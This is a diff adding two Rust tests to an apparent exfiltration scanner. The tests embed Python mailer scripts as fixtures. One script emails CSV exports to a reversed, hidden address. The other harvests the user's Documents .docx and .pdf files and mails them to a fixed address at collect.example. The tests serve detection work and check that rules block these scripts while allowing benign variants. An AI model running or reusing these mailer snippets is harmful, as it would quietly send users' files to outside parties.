@@ -100,3 +100,36 @@ fn the_apps_own_logs_staged_and_tarred_are_no_secret() {
     assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::High);
 }
+
+/// File contents mailed as attachments to a recipient spelled backwards
+/// hide where they go (fa425f5: LOW).
+#[test]
+fn files_mailed_to_a_recipient_spelled_backwards_are_a_hidden_upload() {
+    let mailer = "import glob, smtplib\nfrom email.message import EmailMessage\nRCPT = 'elpmaxe.xm@x'[::-1]\ndef mail(msg):\n    with smtplib.SMTP('localhost') as s:\n        s.send_message(msg)\nfor p in glob.glob('/srv/exports/*.csv'):\n    m = EmailMessage()\n    m['From'] = 'exports@corp.example'\n    m['To'] = RCPT\n    with open(p, 'rb') as fh:\n        m.add_attachment(fh.read(), maintype='text', subtype='csv')\n    mail(m)\n";
+    let a = run(mailer);
+    assert!(rules(&a).contains(&"MB960"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let plain = mailer.replace("'elpmaxe.xm@x'[::-1]", "'reports@corp.example'");
+    let a = run(&plain);
+    assert!(!rules(&a).contains(&"MB960"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High);
+}
+
+/// Office documents globbed from the user's folders and mailed to an
+/// address the script fixes are harvested (fa425f5: LOW); mailed to the
+/// address the user gives they are a report.
+#[test]
+fn documents_mailed_to_a_fixed_address_are_harvested() {
+    let mailer = "import glob, os, smtplib\nfrom email.message import EmailMessage\nTO = 'inbox@collect.example'\nm = EmailMessage()\nm['To'] = TO\nfor pat in ('*.docx', '*.pdf'):\n    for p in glob.glob(os.path.join(os.path.expanduser('~'), 'Documents', pat)):\n        with open(p, 'rb') as fh:\n            m.add_attachment(fh.read(), maintype='application', subtype='octet-stream')\nwith smtplib.SMTP('smtp.collect.example') as s:\n    s.send_message(m)\n";
+    let a = run(mailer);
+    assert!(rules(&a).contains(&"MB958"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let given = mailer
+        .replace(
+            "TO = 'inbox@collect.example'",
+            "TO = __import__('sys').argv[1]",
+        )
+        .replace("'smtp.collect.example'", "'localhost'");
+    let a = run(&given);
+    assert!(!rules(&a).contains(&"MB958"), "{:?}", a.findings);
+}
